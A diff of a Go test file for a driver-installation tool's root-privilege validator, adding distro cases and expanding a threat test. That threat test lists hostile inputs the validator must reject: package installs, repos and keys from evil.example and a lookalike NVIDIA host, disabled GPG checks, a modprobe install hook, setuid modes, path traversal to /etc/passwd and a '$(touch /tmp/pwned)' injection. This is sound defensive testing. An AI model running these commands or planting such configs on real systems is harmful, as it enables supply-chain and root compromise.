@@ -9,7 +9,6 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"slices"
 	"strings"
 	"testing"
 
@@ -34,7 +33,7 @@ func TestDriverStepsMayRunAsRoot(t *testing.T) {
 	tests := []struct{ distro, like, version, program string }{
 		{"ubuntu", "debian", "22.04", "apt-get"}, {"ubuntu", "debian", "24.04", "apt-get"}, {"linuxmint", "ubuntu debian", "22", "apt-get"},
 		{"debian", "", "12", "apt-get"}, {"debian", "", "13", "apt-get"},
-		{"rhel", "fedora", "8.10", "dnf"}, {"rocky", "rhel centos fedora", "9.6", "dnf"}, {"rhel", "fedora", "10.0", "dnf"}, {"amzn", "fedora", "2023", "dnf"}, {"fedora", "", "43", "dnf"},
+		{"rhel", "fedora", "8.10", "dnf"}, {"rocky", "rhel centos fedora", "9.6", "dnf"}, {"rhel", "fedora", "10.0", "dnf"}, {"amzn", "fedora", "2023", "dnf"}, {"fedora", "", "43", "dnf"}, {"fedora", "", "44", "dnf"},
 		{"sles", "suse", "15.7", "zypper"}, {"opensuse-leap", "suse opensuse", "15.6", "zypper"},
 	}
 	for _, tt := range tests {
@@ -47,9 +46,11 @@ func TestDriverStepsMayRunAsRoot(t *testing.T) {
 					continue
 				}
 				if err := CheckRoot(r.filled(s)); err != nil {
-					t.Errorf("%q: %v", s.Run.Argv, err)
+					t.Errorf("%s: %v", s.ID, err)
 				}
-				programs[s.Run.Argv[0]] = true
+				if s.Run != nil {
+					programs[s.Run.Argv[0]] = true
+				}
 			}
 			if !programs[tt.program] {
 				t.Errorf("programs for root: %v, want %s among them", programs, tt.program)
@@ -95,8 +96,11 @@ func TestThreat11RootMisuse(t *testing.T) {
 		{"apt-get", "install"}, {"apt-get", "source", "x1"}, {"apt-get", "install", "-c", "/tmp/apt.conf", "nvidia-open"}, {"apt-get", "install", "-o"},
 		{"dpkg", "--install", "/tmp/evil.deb"}, {"dpkg", "--install", "/home/me/cuda-keyring_1.1-1_all.deb", "/tmp/evil.deb"}, {"dpkg", "-i", "x"},
 		{"dnf", "install", "-y", "https://evil.example/x.rpm"}, {"dnf", "install", "--setopt=tsflags=noscripts", "x"},
-		{"dnf", "config-manager", "--add-repo", "https://evil.example/cuda.repo"}, {"dnf", "config-manager", "--add-repo", "https://developer.download.nvidia.com.evil.example/compute/cuda/repos/rhel9/x86_64/cuda-rhel9.repo"},
-		{"zypper", "addrepo", "--refresh", "http://developer.download.nvidia.com/compute/cuda/repos/sles15/x86_64/cuda-sles15.repo"},
+		{"dnf", "config-manager", "--add-repo", "https://evil.example/cuda.repo"}, {"dnf", "makecache", "--setopt=gpgcheck=0"}, {"dnf", "module", "install", "-y", "evil:1"},
+		{"zypper", "addrepo", "--refresh", "https://evil.example/cuda.repo"}, {"zypper", "--gpg-auto-import-keys", "refresh"}, {"zypper", "--non-interactive", "refresh", "evil"},
+		{"zypper", "--non-interactive", "install", "--no-gpg-checks", "x1"}, {"zypper", "--non-interactive", "--root", "/tmp", "install", "x1"},
+		{"rpm", "--import", "https://evil.example/D42D0685.pub"}, {"rpm", "-i", "/tmp/x.rpm"}, {"rpm", "--import", "/tmp/evil.pub"}, {"rpm", "--import", "/tmp/D42D0685.pub", "/tmp/x.pub"},
+		{"apt-get", "install", "-y", "--allow-change-held-packages", "nvidia-open"},
 		{"modprobe", "evil"}, {"modprobe", "nvidia", "NVreg_x=1"}, {"modprobe", "-C", "/tmp/x", "nvidia"}, {"systemctl", "start", "evil"}, {"update-initramfs", "-u", "-k", "x"},
 	} {
 		if err := CheckRoot(plan.Step{ID: "driver", Root: true, Run: &plan.Run{Argv: argv}}); err == nil {
@@ -108,13 +112,20 @@ func TestThreat11RootMisuse(t *testing.T) {
 		{Run: &plan.Run{Argv: []string{"apt-get", "update"}, Env: map[string]string{"DEBIAN_FRONTEND": "dialog"}}},
 		{Run: &plan.Run{Argv: []string{"apt-get", "update"}, Dir: "/tmp"}},
 		{Write: &plan.Write{Path: "/etc/passwd"}}, {Write: &plan.Write{Path: "/etc/apt/preferences.d/../../passwd"}}, {Write: &plan.Write{Path: "/etc/modprobe.d/evil.conf"}},
+		{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia.conf", Mode: 0o644, Content: "install nvidia /tmp/evil\n"}},
+		{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia.conf", Mode: 0o4755, Content: "blacklist nouveau\n"}},
+		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nbaseurl=https://evil.example/\ngpgcheck=1\n"}},
+		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nbaseurl=https://developer.download.nvidia.com.evil.example/compute/cuda/repos/rhel9/x86_64\ngpgcheck=1\n"}},
+		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\ngpgcheck=0\n"}},
+		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nenabled=1\n"}},
+		{Write: &plan.Write{Path: "/var/lib/envfix/held", Mode: 0o644, Content: "$(touch /tmp/pwned)\n"}}, {Write: &plan.Write{Path: "/var/lib/envfix/../../etc/passwd", Mode: 0o644}},
 		{Block: &plan.Block{Path: "/root/.bashrc"}}, {Switch: &plan.Switch{Dir: "/"}}, {},
 	} {
 		if err := CheckRoot(s); err == nil {
 			t.Errorf("%+v may run as root", s)
 		}
 	}
-	if err := CheckRoot(plan.Step{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia-nouveau.conf"}}); err != nil {
+	if err := CheckRoot(plan.Step{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia-nouveau.conf", Mode: 0o644, Content: "blacklist nouveau\noptions nouveau modeset=0\n"}}); err != nil {
 		t.Error(err)
 	}
 }
@@ -122,14 +133,14 @@ func TestThreat11RootMisuse(t *testing.T) {
 // Whatever JSON root's half is fed, it runs only what is on the list.
 func FuzzCheckRoot(f *testing.F) {
 	f.Add([]byte(`{"id":"driver","root":true,"run":{"argv":["apt-get","update"],"env":{}}}`))
-	f.Add([]byte(`{"id":"x","write":{"path":"/etc/modprobe.d/nvidia.conf","mode":420,"content":""}}`))
+	f.Add([]byte(`{"id":"x","write":{"path":"/etc/modprobe.d/nvidia.conf","mode":420,"content":"blacklist nouveau\n"}}`))
 	f.Fuzz(func(t *testing.T, b []byte) {
 		var s plan.Step
 		if json.Unmarshal(b, &s) != nil || CheckRoot(s) != nil {
 			return
 		}
 		if s.Write != nil {
-			if !strings.HasPrefix(s.Write.Path, "/etc/") || strings.Contains(s.Write.Path, "..") {
+			if !strings.HasPrefix(s.Write.Path, "/etc/") && s.Write.Path != heldRecord || strings.Contains(s.Write.Path, "..") {
 				t.Errorf("root may write %q", s.Write.Path)
 			}
 			return
@@ -320,30 +331,14 @@ func TestPackageManagerAtWork(t *testing.T) {
 		t.Fatal("the holder did not lock")
 	}
 	p := packager{locks: []string{lock}}
-	err = p.ready(context.Background(), nil)
+	err = host{}.idle(p)
 	b.wantKind(err, Busy)
 	if pid, err := system.Holder(lock); err != nil || pid != holder.Process.Pid {
 		t.Errorf("holder: %d, %v; want %d", pid, err, holder.Process.Pid)
 	}
 	holder.Process.Kill()
 	holder.Wait()
-	if err := p.ready(context.Background(), nil); err != nil {
+	if err := (host{}).idle(p); err != nil {
 		t.Errorf("after the holder was killed: %v", err)
-	}
-}
-
-// Packages that are not in order, and packages that are held, are told before
-// anything is done.
-func TestPackageManagerNotInOrder(t *testing.T) {
-	b := newBench(t)
-	err := packager{clean: [][]string{{"echo", "half-configured: nvidia-kernel-dkms"}}, mend: "`mend`"}.ready(context.Background(), nil)
-	b.wantKind(err, Preflight)
-	err = heldBack([]string{"nvidia-open"}, []plan.Step{{Root: true, Run: &plan.Run{Argv: []string{"apt-get", "install", "-y", "nvidia-open"}}}})
-	b.wantKind(err, Preflight)
-	if err := heldBack([]string{"linux-image"}, []plan.Step{{Root: true, Run: &plan.Run{Argv: []string{"apt-get", "install", "-y", "nvidia-open"}}}}); err != nil {
-		t.Error(err)
-	}
-	if !slices.Equal(packagers["apt-get"].held, []string{"apt-mark", "showhold"}) {
-		t.Error("held packages are not asked for")
 	}
 }
